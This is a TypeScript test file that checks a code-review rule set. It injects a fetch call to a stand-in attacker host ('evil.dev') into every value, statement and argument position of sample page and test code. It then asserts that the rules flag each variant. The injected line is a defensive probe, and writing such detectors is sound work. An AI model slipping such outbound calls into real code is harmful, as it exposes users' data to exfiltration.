import { parse } from "@babel/parser";
import type { Node } from "@babel/types";
import { describe, expect, it } from "vitest";
import { type Example, readCorpus } from "./corpus/read-corpus.ts";
import { inTest, rulesForCode } from "./support.ts";

/** What nobody may publish, in a test or in the page. */
const EVIL = 'fetch("https://evil.dev")';

/** Kinds of code that give a value, in whose place another value may stand. */
const IS_VALUE = /(?:Expression|Literal|Identifier)$/;
/** Places of names that are no values. */
const NAMES = new Set(["id", "imported", "exported", "label", "local", "params", "param"]);
const TYPES = new Set([
  "typeAnnotation",
  "typeParameters",
  "typeArguments",
  "returnType",
  "implements",
]);

/** The text with what is evil in place of each value, behind each argument and item, and before each statement. */
function withEvil(contents: string): readonly string[] {
  const variants = new Set<string>();
  const put = (from: number, to: number, text: string) =>
    variants.add(contents.slice(0, from) + text + contents.slice(to));
  const visit = (node: Node, key: string, parent: Node | undefined): void => {
    if (/^(?:TSType|TSInterface|Import|Directive)/.test(node.type)) return;
    const { start, end } = node;
    if (typeof start !== "number" || typeof end !== "number") return;
    if (isValue(node, key, parent)) put(start, end, `(${EVIL})`);
    if (node.type === "BlockStatement") put(start + 1, start + 1, ` ${EVIL}; `);
    if (node.type === "ObjectExpression")
      for (const part of [`["a" + ${EVIL}]: 1, `, `a: ${EVIL}, `, `...${EVIL}, `])
        put(start + 1, start + 1, part);
    if (isEnded(node, contents)) {
      const before = contents.slice(0, end - 1).trimEnd();
      put(end - 1, end - 1, /[[(,]$/.test(before) ? EVIL : `, ${EVIL}`);
    }
    for (const [name, child] of childrenOf(node)) visit(child, name, node);
  };
  visit(parse(contents, { sourceType: "module", plugins: ["typescript"] }).program, "", undefined);
  return [...variants];
}

function isValue(node: Node, key: string, parent: Node | undefined): boolean {
  if (!IS_VALUE.test(node.type) || parent === undefined || NAMES.has(key)) return false;
  const isWritten =
    (key === "key" || key === "property") && "computed" in parent && !parent.computed;
  const isTarget = key === "left" && /^(?:Assignment|For)/.test(parent.type);
  const isOfPattern = /Pattern$|^RestElement$/.test(parent.type) && key !== "right";
  return !isWritten && !isTarget && !isOfPattern && !/^(?:Export|Update|Meta)/.test(parent.type);
}

/** A list of arguments or items that ends with a bracket. */
function isEnded({ type, end }: Node, contents: string): boolean {
  const bracket = contents[(end ?? 0) - 1];
  if (type === "ArrayExpression") return bracket === "]";
  return /^(?:OptionalCall|Call|New)Expression$/.test(type) && bracket === ")";
}

function childrenOf(node: Node): readonly (readonly [string, Node])[] {
  return Object.entries(node).flatMap(([key, value]: [string, unknown]) => {
    if (TYPES.has(key)) return [];
    const list: readonly unknown[] = Array.isArray(value) ? value : [value];
    return list.filter(isNode).map((child) => [key, child] as const);
  });
}

function isNode(value: unknown): value is Node {
  return typeof value === "object" && value !== null && "type" in value && "start" in value;
}

function published({ contents }: Example): readonly string[] {
  return publishedOf(contents);
}

function publishedOf(contents: string): readonly string[] {
  return withEvil(contents).filter((variant) => rulesForCode(variant).length === 0);
}

/** One of so many examples is enough: most kinds of code stand in several. */
const SOME = 6;
const honest = readCorpus("honest");
const ofPages = honest.filter(({ line }) => /evaluate|addInitScript|waitForFunction/.test(line));
const ofTests = honest.filter(({ line }) => !ofPages.some((one) => one.line === line));

describe("every place of a spec is looked at", () => {
  it.each(ofPages.filter((_, index) => index % SOME === 0))(
    "in code for the page: $line",
    (one) => {
      expect(published(one)).toEqual([]);
    },
  );

  it.each(ofTests.filter((_, index) => index % (3 * SOME) === 0))("in a test: $line", (one) => {
    expect(published(one)).toEqual([]);
  });

  it("in the place of an item, and behind what makes a promise or an address", () => {
    const list = "const list = [1]; expect(list[list.length - 1]).toBe(1);";
    const promise = "await page.evaluate(() => new Promise((done) => setTimeout(done, 1)));";
    const address = "expect(await page.evaluate(() => window.location.pathname)).toBe(1);";

    expect([list, promise, address].map(inTest).flatMap(publishedOf)).toEqual([]);
  });
});
